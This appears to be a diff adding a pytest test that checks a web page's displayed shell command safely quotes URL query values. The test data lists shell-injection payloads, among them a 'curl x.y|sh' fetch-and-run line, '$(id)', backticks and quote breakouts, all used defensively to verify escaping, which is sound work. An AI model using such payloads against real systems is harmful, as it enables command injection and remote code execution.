@@ -11,6 +11,7 @@ from html import unescape
 from io import StringIO
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 import time_machine
@@ -268,6 +269,18 @@ def test_the_command_on_the_page_is_the_one_that_counts_it(client: Client, tmp_p
     path = exported(client, unescape(export[1]), tmp_path)
     same(recomputed(str(path), *arguments), published(client, "register=cms&region=US-CA"))
     assert page(client, "/figures/recompute_figures.py") == SCRIPT.read_text()
+
+
+@pytest.mark.usefixtures("register")
+def test_nothing_in_an_address_is_a_command_of_its_own(client: Client) -> None:
+    hostile = ["US;curl x.y|sh", "$(id)", "`id`", "a\nid", "'; id; '", "--only"]
+    html = page(client, f"/figures/?{urlencode([('country', one) for one in hostile])}")
+    command = re.search(r"<code>(.+?)</code>", html, re.DOTALL)
+    assert command
+    told = "set -- " + unescape(command[1]) + '; printf "%s\\0" "$@"'
+    ran = subprocess.run(["/bin/sh", "-c", told], capture_output=True, text=True, check=True, env={})
+    given = [word for one in hostile for word in ("--country", one)]
+    assert ran.stdout.split("\0")[:-1] == ["python3", "recompute_figures.py", "list.jsonl", *given]
 
 
 @pytest.mark.usefixtures("register")
